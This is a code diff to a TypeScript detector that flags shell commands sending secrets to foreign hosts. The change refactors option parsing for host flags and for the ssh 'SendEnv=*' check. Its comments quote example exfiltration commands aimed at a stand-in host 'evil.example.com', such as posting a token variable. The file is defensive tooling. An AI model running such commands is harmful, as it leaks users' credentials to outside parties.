@@ -2,6 +2,7 @@ import { providerIn } from '../../credentials/contentRules';
 import type { CodeSnippet, Finding, Invocation, Target } from '../../policy/types';
 import { isSecretVariableName, positionals, secretRoleOf } from './huntCommon';
 import { carriedOut } from './sentOutCarriers';
+import { freeFormReadings } from '../../registry/freeForm';
 
 // ---------------------------------------------------------------------------------------------
 // Secrets sent to a host that is not their own service
@@ -56,10 +57,8 @@ function destinationsOf(inv: Invocation): Destination[] {
   }
   // A host option's value (`-h evil.example.com`, `--to a@evil.example.com`), or the first bare word shaped
   // like a host of an HTTPie-style client or ssh (`xh post evil.example.com token=$X`).
-  for (let i = 0; i < inv.args.length; i++) {
-    const t = (inv.args[i] as (typeof inv.args)[number]).text;
-    const eq = /^(--[a-z-]+)=(.*)$/.exec(t);
-    const value = HOST_OPTIONS.has(t) ? inv.args[i + 1]?.text : eq && HOST_OPTIONS.has(eq[1] ?? '') ? eq[2] : undefined;
+  for (const o of freeFormReadings(inv.args).valued.options) {
+    const value = HOST_OPTIONS.has(o.written) || HOST_OPTIONS.has(o.name) ? o.values[0] : undefined;
     const host = value !== undefined ? HOST_SHAPE.exec(value)?.[1] : undefined;
     if (host) out.push({ host: host.toLowerCase() });
   }
@@ -155,7 +154,9 @@ export function domainOwner(host: string): string | undefined {
 
 /** `ssh -o SendEnv='*' host`: every variable of this environment offered to the host (a server of the agent's choosing accepts them). */
 function sshSendsEnvironment(inv: Invocation): Finding[] {
-  const options = inv.args.map((a, i) => (a.text === '-o' ? inv.args[i + 1]?.text ?? '' : a.text.startsWith('-o') ? a.text.slice(2) : '')).filter((o) => o !== '');
+  // `-o SendEnv=*` through the grammar; `-oSendEnv=*` glued, by its spelling.
+  const spaced = freeFormReadings(inv.args).valued.options.filter((o) => o.written === '-o').map((o) => o.values[0] ?? '');
+  const options = [...spaced, ...inv.args.map((a) => /^-o(.+)$/.exec(a.text)?.[1] ?? '')].filter((o) => o !== '');
   if (!options.some((o) => /^SendEnv\s*[= ]\s*(.*\s)?['"]?[A-Za-z_]*\*/i.test(o))) return [];
   const host = destinationsOf(inv).map((d) => d.host).find((h) => h !== undefined && !LOOPBACK.test(h));
   if (host === undefined) return [];
